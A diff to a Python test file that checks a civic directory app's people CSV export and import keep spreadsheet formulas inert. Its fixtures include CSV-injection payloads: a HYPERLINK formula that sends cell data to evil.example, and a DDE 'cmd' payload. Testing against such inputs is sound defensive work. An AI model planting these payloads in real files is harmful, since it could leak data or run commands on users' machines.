@@ -18,8 +18,9 @@ from citizenspace.domain.catalog import Competence
 from citizenspace.domain.directory import EntryDraft
 from citizenspace.services.directory import DirectoryService
 from citizenspace.services.directory_io import DirectoryFiles
-from citizenspace.services.spreadsheets import FORMULA_SIGNS
-from citizenspace.store.models import DirectoryEntry
+from citizenspace.services.people_import import PeopleImportService
+from citizenspace.services.spreadsheets import FORMULA_SIGNS, write_csv
+from citizenspace.store.models import DirectoryEntry, Person
 
 LINK = '=HYPERLINK("http://evil.example/?q="&A1,"Cliquez ici")'
 CMD = "-2+3+cmd|' /C calc'!A0"
@@ -194,3 +195,29 @@ def test_a_csv_with_formulas_typed_in_imports_them_as_text(db, tmp_path):
     # An apostrophe in front of a formula sign is what our exports (and Excel saving them
     # again) put there: it is taken away; everything else is kept as typed.
     assert rows == {"=1+1 Service": (PHONE, LINK), "Point @SUM": ("", "-2 degrés")}
+
+
+# --------------------------------------------------------------------------- people
+
+
+def test_people_written_by_the_application_import_back_unchanged(db, tmp_path):
+    """There is no people export: the file is written by the exports' own writer, as any
+    future one would, and read by the people import."""
+    header = ["Nom", "Prénom", "Adresse", "Téléphone", "Consentement contact", "Notes"]
+    people = [
+        ["=1+1", "@Marie", LINK, "+442079460958", "oui", "-2 degrés"],
+        ["'=Dupont", "+Jean", "@", "", "non", CMD],
+        ["Martin", "-Lou", "'''@x", "", "non", '=HYPERLINK("http://a")'],
+    ]
+    path = tmp_path / "personnes.csv"
+    write_csv(path, [header, *people])
+    assert runnable(csv_cells(path)) == []
+
+    report = PeopleImportService(db).import_file(path)
+    assert (report.imported, report.encoding, report.delimiter) == (3, "utf-8-sig", ";")
+    with db.read() as s:
+        stored = {
+            (p.last_name, p.first_name, p.address, p.phone, p.notes)
+            for p in s.scalars(select(Person))
+        }
+    assert stored == {(p[0], p[1], p[2], p[3], p[5]) for p in people}
